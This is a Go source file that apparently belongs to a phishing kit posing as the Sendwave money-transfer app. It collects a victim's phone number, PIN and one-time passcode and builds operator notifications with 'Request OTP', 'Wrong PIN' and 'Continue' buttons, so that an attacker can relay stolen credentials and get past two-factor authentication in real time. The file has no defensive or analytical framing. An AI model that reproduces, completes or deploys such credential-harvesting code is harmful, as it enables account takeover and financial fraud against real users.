package relay

import (
	"fmt"
	"strings"
	"time"

	"github.com/arapchelogoi/Sendwave/cmd/internal/approval"
)

const (
	DefaultCountryFlag = "🌐"
	DefaultCountryCode = "+"

	timestampLayout = "2006-01-02 15:04:05"
)

// LoginAttempt is the input to CreateSession. Phone and PIN are required.
type LoginAttempt struct {
	CountryFlag string
	CountryCode string
	Phone       string
	PIN         string
}

// OTPEntry is the input to NotifyFollowUp. SessionID and OTP are required.
type OTPEntry struct {
	SessionID   string
	OTP         string
	CountryCode string
	Phone       string
}

func (in LoginAttempt) normalize() (LoginAttempt, error) {
	in.Phone = strings.TrimSpace(in.Phone)
	in.PIN = strings.TrimSpace(in.PIN)
	if in.Phone == "" || in.PIN == "" {
		return in, fmt.Errorf("%w: phone and pin are required", ErrMissingFields)
	}
	if strings.TrimSpace(in.CountryFlag) == "" {
		in.CountryFlag = DefaultCountryFlag
	}
	if strings.TrimSpace(in.CountryCode) == "" {
		in.CountryCode = DefaultCountryCode
	}
	return in, nil
}

func (in OTPEntry) normalize() (OTPEntry, error) {
	in.SessionID = strings.TrimSpace(in.SessionID)
	in.OTP = strings.TrimSpace(in.OTP)
	if in.SessionID == "" || in.OTP == "" {
		return in, fmt.Errorf("%w: sessionId and otp are required", ErrMissingFields)
	}
	return in, nil
}

func loginNotification(id string, in LoginAttempt, now time.Time) Notification {
	var b strings.Builder
	b.WriteString("🌊 *New Sendwave Login*\n\n")
	fmt.Fprintf(&b, "%s *Phone:* `%s%s`\n", in.CountryFlag, in.CountryCode, in.Phone)
	fmt.Fprintf(&b, "🔢 *PIN:* `%s`\n", in.PIN)
	fmt.Fprintf(&b, "⏰ *Time:* %s\n\n", now.UTC().Format(timestampLayout))
	b.WriteString("Choose action:")

	return Notification{
		Kind:      KindLogin,
		SessionID: id,
		Text:      b.String(),
		Choices: []Choice{
			{Label: "🔑 Request OTP", Token: approval.ActionOTPRequest.Token(id)},
			{Label: "❌ Wrong PIN", Token: approval.ActionWrongPIN.Token(id)},
		},
	}
}

func followUpNotification(in OTPEntry, now time.Time) Notification {
	var b strings.Builder
	b.WriteString("🔑 *OTP Entered - Sendwave*\n\n")
	fmt.Fprintf(&b, "📱 *Phone:* `%s%s`\n", in.CountryCode, in.Phone)
	fmt.Fprintf(&b, "🔢 *OTP:* `%s`\n", in.OTP)
	fmt.Fprintf(&b, "⏰ *Time:* %s\n\n", now.UTC().Format(timestampLayout))
	b.WriteString("Choose action:")

	return Notification{
		Kind:      KindFollowUp,
		SessionID: in.SessionID,
		Text:      b.String(),
		Choices: []Choice{
			{Label: "❌ Wrong Code", Token: approval.ActionWrongCode.Token(in.SessionID)},
			{Label: "✅ Continue", Token: approval.ActionContinue.Token(in.SessionID)},
		},
	}
}
